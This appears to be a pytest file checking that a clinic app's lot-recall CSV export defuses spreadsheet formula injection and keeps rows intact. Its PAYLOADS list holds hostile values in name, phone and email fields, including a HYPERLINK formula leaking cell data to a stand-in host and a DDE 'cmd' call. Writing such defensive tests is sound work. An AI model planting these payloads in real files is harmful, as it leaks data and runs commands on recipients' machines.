"""The lot recall's CSV: names that a spreadsheet would run as formulas are written as
text, and every row reads back with Python's `csv` module into its own columns, so the
text as typed can always be recovered."""

from __future__ import annotations

import csv
import dataclasses
import io

import pytest

from practitioner_app.services.courses import recall_csv
from tests.cli_helpers import cli
from tests.factories import a_full_session, a_patient

LOT = "HA-5520"  # the serum lot of a_full_session()
HEADER = ["patient_number", "full_name", "phone", "email", "session_id", "session_date",
          "used_as", "product", "lot"]
#: (full name, phone, email): what a hostile or careless entry may hold.
PAYLOADS = [
    ('=HYPERLINK("http://evil.example/?leak="&A1,"Click me")', "+44 20 7946 0001",
     "a@example.org"),
    ("@SUM(1)", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)@example.org"),
    ("+1+1 Plus", "=1+1", "b@example.org"),
    ("-1+1 Minus", "0044 20 7946 0002", "=c@example.org"),
    ("\tTab=1+1", "\r=2+2", "d@example.org"),
    ("\rCarriage=1+1", "123", "e@example.org"),
    ("Ann\rCR inside, then a comma", "1\r\n2", "f@example.org"),
    ('Quote "Q" O\'Neil, Jr.\nSecond line', "'+44", "g@example.org"),
    ("'=Already marked", "'", "h@example.org"),
]


@pytest.fixture
def recalled(services):
    """One patient per payload, each treated with the lot; the recall's rows."""
    base = a_full_session()
    for i, (name, phone, email) in enumerate(PAYLOADS, start=1):
        patient = services.patients.register(a_patient(
            number=f"P{i:06d}", full_name=name, phone=phone, email=email))
        services.sessions.save(patient.id, dataclasses.replace(base))
    rows = services.courses.recall(LOT)
    assert len(rows) == len(PAYLOADS)
    return rows


def _read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def _as_typed(cell: str) -> str:
    """The README's rule: drop one leading ' to get the text as typed."""
    return cell[1:] if cell.startswith("'") else cell


def _check(text: str, rows) -> None:
    parsed = _read(text)
    assert parsed[0] == HEADER
    assert len(parsed) == 1 + len(rows)  # no row split by a CR or LF inside a name
    for row, cells in zip(rows, parsed[1:], strict=True):
        assert len(cells) == len(HEADER), cells
        expected = [row.patient_number, row.full_name, row.phone, row.email,
                    str(row.session_id), row.session_date.isoformat(), row.used_as,
                    row.product, row.lot]
        assert [_as_typed(c) for c in cells] == expected
        for cell in cells:  # nothing a spreadsheet would take as a formula
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    # every field quoted, so embedded quotes, commas, CR and LF cannot shift columns
    assert text.startswith('"patient_number","full_name",')


def test_formula_cells_are_neutralised_and_every_row_reads_back(recalled):
    text = recall_csv(recalled)
    _check(text, recalled)
    assert '"\'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click me"")"' in text
    assert '"\'@SUM(1)"' in text and '"\'+1+1 Plus"' in text and '"\'-1+1 Minus"' in text
    assert '"\'\tTab=1+1"' in text and '"\'\rCarriage=1+1"' in text
    assert "\"''=Already marked\"" in text  # a typed mark is kept, marked once more


def test_the_command_line_recall_file_reads_back_into_its_columns(services, recalled,
                                                                  database, tmp_path,
                                                                  capsys):
    target = tmp_path / "recall.csv"
    status, _out, err = cli(capsys, database, "recall", "--lot", LOT, "-o", str(target))
    assert status == 0, err
    _check(target.read_bytes().decode("utf-8"), recalled)

    status, out, err = cli(capsys, database, "recall", "--lot", LOT)
    assert status == 0, err
    _check(out, recalled)


def test_the_windows_recall_file_reads_back_into_its_columns(qtbot, services, recalled,
                                                               tmp_path):
    from practitioner_app.ui.dialogs.recall_dialog import RecallDialog

    dialog = RecallDialog(services)
    qtbot.addWidget(dialog)
    dialog.lot.setText(LOT)
    dialog.search()
    assert dialog.table.rowCount() == len(PAYLOADS)
    target = tmp_path / "recall.csv"
    assert dialog.export_to(target), dialog.message.text()
    _check(target.read_bytes().decode("utf-8"), recalled)
